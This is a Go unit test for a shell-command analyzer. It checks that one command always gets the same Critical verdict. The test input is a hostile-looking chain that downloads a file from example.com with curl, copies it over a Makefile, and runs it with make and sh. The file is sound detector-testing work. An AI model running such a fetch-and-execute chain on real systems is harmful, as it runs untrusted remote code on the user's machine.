package shell

import (
	"reflect"
	"testing"
)

// TestVerdictIsSteady: one command has one verdict, however often it is
// analyzed. Its program text is put together from variables, of which any may
// be what runs.
func TestVerdictIsSteady(t *testing.T) {
	command := "echo a > x.py; curl -so b https://example.com/b; cp b Makefile; make; python3 x.py; sh b"
	first := Analyze(command)
	if first.Severity != Critical {
		t.Fatalf("%q is %s", command, first.Severity)
	}
	for range 100 {
		if again := Analyze(command); !reflect.DeepEqual(first, again) {
			t.Fatalf("two verdicts of one command:\n%+v\n%+v", first, again)
		}
	}
}
